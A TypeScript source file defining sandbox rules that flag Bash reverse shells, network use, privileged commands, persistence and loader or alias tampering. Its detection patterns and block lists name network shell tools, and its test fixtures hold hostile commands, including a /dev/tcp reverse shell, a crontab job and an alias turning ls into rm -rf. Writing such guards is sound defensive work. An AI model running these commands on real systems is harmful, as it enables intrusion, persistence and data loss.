/** Rules about Bash that leaves the sandbox: the network, other processes, rights, things that outlive the job. */
import type { CommandFact, Fact } from '../facts.ts';
import { baseOf } from '../values/fold-paths.ts';
import { HOLE, rowOf, textsOf } from '../values/value.ts';
import { spend } from '../values/work.ts';
import { networkMode, type Objection, type Rule, type RuleContext } from './rule.ts';

const commandOf = (fact: Fact): { name: string; args: readonly string[]; fact: CommandFact } | null =>
	fact.kind === 'command' ? { name: baseOf(fact.argv[0] ?? ''), args: fact.argv.slice(1), fact } : null;

const isHelp = (args: readonly string[]): boolean =>
	args.length > 0 && args.every((arg) => /^(--help|--version|-V|-h|help|version)$/.test(arg));

function reverseShell(fact: Fact): Objection[] {
	const command = commandOf(fact);
	if (!command) return [];
	const { name, args } = command;
	const objection = {
		resolved: 'a remote shell',
		reason: 'it hands a shell or a pipe to another machine',
		fix: 'Leave it out; it is refused whatever the network setting.',
	};
	const sockets = /\/(dev\/(tcp|udp)|inet(6)?\/(tcp|udp))\//;
	if (command.fact.redirects.some(({ target }) => sockets.test(target)) || args.some((arg) => sockets.test(arg)))
		return [objection];
	if (
		/^(nc|ncat|netcat|nc\.\w+)$/.test(name) &&
		args.some((arg) => /^-[a-zA-Z]*[ec]$|^--(exec|sh-exec|lua-exec)/.test(arg))
	)
		return [objection];
	if (name === 'socat' && args.some((arg) => /\b(exec|system|shell):/i.test(arg))) return [objection];
	if (/^(nc|ncat|netcat|telnet|openssl)$/.test(name) && pipesShell(command.fact)) return [objection];
	return [];
}

/** `sh < fifo | nc host > fifo` */
const pipesShell = (fact: CommandFact): boolean =>
	fact.input?.from.some(
		([name, ...rest]) => /^(ba|da|z)?sh$/.test(baseOf(name ?? '')) && rest.every((word) => word.startsWith('-')),
	) ?? false;

const reverseRule: Rule = {
	id: 'BASH-REVSHELL',
	cwe: 'CWE-506',
	severity: 'block',
	language: 'bash',
	summary:
		'Hands a shell to another machine: /dev/tcp, nc -e, socat exec, a pipe into nc. Refused with any network setting.',
	dependsOn: [],
	judge: reverseShell,
	denies: { code: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', options: { network: 'full' } },
	allows: { code: 'echo hello > /dev/null' },
};

const clients = new Set(
	`curl wget ssh scp sftp rsync ftp lftp tftp telnet nc ncat netcat socat ping ping6 traceroute tracepath mtr dig nslookup host whois nmap masscan
	aria2c lynx links w3m http https httpie xh sshfs sendmail mail mailx mutt tcpdump tshark ngrok cloudflared tailscale arp-scan hping3
	ssh-copy-id ssh-keyscan autossh iperf iperf3 speedtest speedtest-cli gsutil aws az gcloud s3cmd mosquitto_pub snmpwalk mount.nfs smbclient
	netstat ss iftop nethogs nload bmon iptraf rclone ntpdate curlftpfs wscat grpcurl nikto sqlmap hydra`.split(/\s+/),
);
const installers: Readonly<Record<string, RegExp>> = {
	git: /^(clone|pull|push|fetch|ls-remote|submodule)$/,
	pip: /^(install|download|search)$/,
	pip3: /^(install|download|search)$/,
	npm: /^(install|i|ci|add|update|publish|audit|view|search)$/,
	npx: /./,
	yarn: /^(add|install|up|upgrade)$/,
	pnpm: /^(add|install|i|update)$/,
	apt: /^(install|update|upgrade|full-upgrade|dist-upgrade|download|source)$/,
	'apt-get': /^(install|update|upgrade|dist-upgrade|download|source)$/,
	yum: /^(install|update|upgrade)$/,
	dnf: /^(install|update|upgrade)$/,
	apk: /^(add|update|upgrade)$/,
	pacman: /^-S/,
	brew: /^(install|update|upgrade)$/,
	gem: /^install$/,
	cargo: /^(install|fetch|update)$/,
	go: /^(get|install)$/,
	conda: /^(install|update|create)$/,
	composer: /^(install|require|update)$/,
	svn: /^(checkout|co|update)$/,
	hg: /^(clone|pull|push)$/,
	snap: /^install$/,
	uv: /^(pip|add|sync)$/,
	openssl: /^s_client$/,
	lsof: /^-i/,
	dpkg: /^(-i|--install)$/,
	rpm: /^(-[iU]|--install)/,
	docker: /^(pull|push|login)$/,
};

function networkUse(fact: Fact): Objection[] {
	const command = commandOf(fact);
	if (!command || isHelp(command.args)) return [];
	const { name, args } = command;
	const verbs = rowOf(installers, name);
	const isLocal =
		(name === 'rsync' && !args.some((arg) => arg.includes(':'))) || (name === 'host' && args.length === 0);
	const goes = (clients.has(name) && !isLocal) || args.some((arg) => verbs?.test(arg));
	if (!goes && !viaPython(name, args)) return [];
	const fix = verbs ? 'Use what is installed; nothing can be fetched here.' : 'Work with the input files in /work/in.';
	return [{ resolved: name, reason: 'it needs the network, which is off in this sandbox', fix }];
}

const viaPython = (name: string, args: readonly string[]): boolean =>
	/^python[\d.]*$/.test(name) &&
	args[0] === '-m' &&
	/^(pip|http\.server|smtpd|ftplib|venv|ensurepip)$/.test(args[1] ?? '');

const networkRule: Rule = {
	id: 'BASH-NET',
	cwe: 'CWE-918',
	severity: 'block',
	language: 'bash',
	summary: 'Uses the network: curl, wget, ssh, git clone, pip, npm and apt install, ping.',
	dependsOn: ['network'],
	mode: networkMode,
	judge: networkUse,
	denies: { code: 'cu""rl http://a.b' },
	allows: { code: 'curl -s http://a.b', options: { network: 'full' } },
};

const privileged = new Set(
	`mount umount chroot unshare nsenter pivot_root iptables ip6tables nft ebtables ufw firewall-cmd useradd userdel usermod groupadd groupdel
	adduser deluser passwd chpasswd visudo vipw docker podman kubectl ctr crictl nerdctl runc lxc gdb insmod rmmod modprobe sysctl
	setenforce setcap capsh reboot shutdown halt poweroff init telinit hostnamectl swapoff ip ifconfig route arp brctl tc iwconfig ethtool
	dmesg killall killall5 pkill skill xkill slay su pkexec runuser newgrp auditctl setuid chsh chfn ptrace perf bpftool kexec dd_rescue
	prlimit update-alternatives dpkg-reconfigure update-grub grub-install usermod gpasswd loginctl rfkill timedatectl localectl`.split(
		/\s+/,
	),
);
const harmlessUse: Readonly<Record<string, RegExp>> = {
	mount: /^$|^-l|^--version/,
	ip: /^(-\w+ )*(a|addr|address|link|route|r|neigh|n)( show| list| ls)?( |$)(?!.*(add|del|set|flush))/,
	ifconfig: /^(-a)?$/,
	route: /^(-n)?$/,
	arp: /^(-a|-n)?$/,
	sysctl: /^(-a|-n [\w.]+|[\w.]+)$/,
	dmesg: /^(?!.*(-C|--clear|-n)\b)/,
	passwd: /^(--help|-S)/,
	docker: /^(ps|images|version|--version|info)( |$)/,
	hostnamectl: /^(status)?$/,
	timedatectl: /^(status)?$/,
	localectl: /^(status)?$/,
	loginctl: /^(list|show)/,
	init: /^(--version)$/,
	tc: /^-s|show/,
	ethtool: /^-i/,
};

function privilegeUse(fact: Fact, { facts }: RuleContext): Objection[] {
	const command = commandOf(fact);
	if (!command) return [];
	const { name, args } = command;
	const line = args.join(' ');
	const fix = 'Leave it out; the sandbox has no such rights.';
	const sudo: Objection[] =
		command.fact.wrappers.some((wrapper) => /^(sudo|doas)$/.test(wrapper)) || /^(sudo|doas)$/.test(name)
			? [
					{
						severity: 'warn',
						resolved: 'sudo',
						reason: 'there is no sudo in the sandbox',
						fix: 'Run the command without sudo.',
					},
				]
			: [];
	if (name === 'kill') return [...sudo, ...killing(args, command.fact, facts)];
	if (!privileged.has(name) || isHelp(args) || rowOf(harmlessUse, name)?.test(line)) return sudo;
	return [...sudo, { resolved: name, reason: 'it acts on the machine, its users or other processes', fix }];
}

/** Killing a job of the script itself is fine; a fixed number, or one that was looked for, is somebody else. */
function killing(args: readonly string[], fact: CommandFact, facts: readonly Fact[]): Objection[] {
	if (args.some((arg) => /^-[lL]/.test(arg))) return [];
	const targets = args.filter(
		(arg, i) => (!/^-/.test(arg) || i > 0) && !/^-[a-zA-Z]/.test(arg) && !/^(-s|-n)$/.test(args[i - 1] ?? ''),
	);
	const isFixed = targets.some((target) => /^-?\d+$/.test(target));
	const isUnknown = targets.length === 0 || targets.some((target) => target.includes(HOLE));
	spend(facts.length);
	const isSought = isUnknown && (fact.wrappers.includes('xargs') || facts.some(looksForProcesses));
	if (isFixed || isSought)
		return [
			{
				resolved: `kill ${targets[0] ?? ''}`.replaceAll(HOLE, '…').trim(),
				reason: 'it kills a process that is not its own',
				fix: 'Leave it out; the sandbox ends all processes of the job by itself.',
			},
		];
	return [
		{
			severity: 'warn',
			resolved: 'kill',
			reason: 'it kills a process',
			fix: 'Keep the number in a variable: cmd & pid=$!; kill "$pid".',
		},
	];
}

const looksForProcesses = (fact: Fact): boolean =>
	fact.kind === 'command' && /^(pgrep|pidof|ps|lsof|fuser|top|ss|netstat)$/.test(baseOf(fact.argv[0] ?? ''));

const privilegeRule: Rule = {
	id: 'BASH-PRIV',
	cwe: 'CWE-250',
	severity: 'block',
	language: 'bash',
	summary:
		'Acts on the machine, its users or other processes: mount, chroot, useradd, docker, iptables, killall, kill 1; sudo warns.',
	dependsOn: [],
	judge: privilegeUse,
	denies: { code: 'unshare -r /bin/bash' },
	allows: { code: 'ip addr show; id' },
};

function persistence(fact: Fact): Objection[] {
	const command = commandOf(fact);
	if (!command || isHelp(command.args)) return [];
	const { name, args } = command;
	const line = args.join(' ');
	const objection = {
		resolved: name,
		reason: 'it arranges for something to run after this job',
		fix: 'Do the work now; nothing outlives the job.',
	};
	if (name === 'crontab') return /(^| )-l( |$)/.test(line) ? [] : [objection];
	if (/^(at|batch|anacron|systemd-run|update-rc\.d|chkconfig|rc-update)$/.test(name))
		return /^-(l|V)/.test(line) ? [] : [objection];
	if (name === 'systemctl' || name === 'service' || name === 'launchctl') {
		return /\b(status|is-active|is-enabled|list-units|list-unit-files|show|--status-all|--version|cat|list-timers)\b/.test(
			line,
		) || line === ''
			? []
			: [objection];
	}
	return [];
}

const persistRule: Rule = {
	id: 'BASH-PERSIST',
	cwe: 'CWE-506',
	severity: 'block',
	language: 'bash',
	summary: 'Arranges for something to run after the job: crontab, at, systemctl, service; listing is free.',
	dependsOn: [],
	judge: persistence,
	denies: { code: 'echo "* * * * * id" | crontab -' },
	allows: { code: 'crontab -l' },
};

const loaderVariables =
	/^(LD_PRELOAD|LD_LIBRARY_PATH|LD_AUDIT|BASH_ENV|ENV|PYTHONSTARTUP|PYTHONHOME|NODE_OPTIONS|PERL5OPT|GIT_SSH_COMMAND|GCONV_PATH|PROMPT_COMMAND|SHELLOPTS|BASHOPTS|PS4)$/;
const everyday =
	/^(ls|cd|cat|cp|mv|rm|grep|sudo|su|ssh|ps|echo|kill|find|git|python3?|node|bash|sh|chmod|login|passwd|which|curl|wget|vi|vim|nano|man|top|df|du|pwd|mkdir|touch|date|whoami|id|clear|exit|test|read|printf|source|command|alias|type|set)$/;

function tampering(fact: Fact): Objection[] {
	const command = commandOf(fact);
	if (!command) return [];
	const { name, args } = command;
	const variables = [
		...[...command.fact.assignments].map(([key, values]) => `${key}=${textsOf(values)[0] ?? ''}`),
		...(/^(export|declare|env|typeset|readonly)$/.test(name) ? args : []),
	];
	const loader = variables.map((one) => one.split('=')[0] ?? '').find((one) => loaderVariables.test(one));
	const found: Objection[] = loader
		? [
				{
					...(/^(PROMPT_COMMAND|PS4|LD_LIBRARY_PATH|NODE_OPTIONS)$/.test(loader) ? { severity: 'warn' as const } : {}),
					resolved: loader,
					reason: 'it changes what later programs load',
					fix: `Leave ${loader} alone.`,
				},
			]
		: [];
	if (name === 'history' && args.some((arg) => /^-[cwd]/.test(arg)))
		found.push({ severity: 'warn', resolved: 'history', reason: 'it wipes traces', fix: 'Leave it out.' });
	return [...found, ...aliases(name, args)];
}

/** An alias over a command changes what a later line means; `ll` is nobody's command, and adding options is common. */
function aliases(name: string, args: readonly string[]): Objection[] {
	if (name !== 'alias') return [];
	return args.flatMap((arg) => {
		const [, alias = '', meaning = ''] = /^([^=]+)=(.*)$/s.exec(arg) ?? [];
		if (!everyday.test(alias) || meaning.split(/\s+/)[0] === alias) return [];
		return [
			{
				resolved: `alias ${alias}`,
				reason: `it gives the command ${alias} another meaning`,
				fix: 'Use a name of its own, or a function.',
			},
		];
	});
}

const tamperRule: Rule = {
	id: 'BASH-TAMPER',
	cwe: 'CWE-426',
	severity: 'block',
	language: 'bash',
	summary: 'Changes what later commands mean or load: LD_PRELOAD, BASH_ENV, an alias over a command; history -c warns.',
	dependsOn: [],
	judge: tampering,
	denies: { code: "alias ls='rm -rf /work/in'" },
	allows: { code: "alias ll='ls -la'" },
};

export const bashSystemRules: readonly Rule[] = [reverseRule, networkRule, privilegeRule, persistRule, tamperRule];
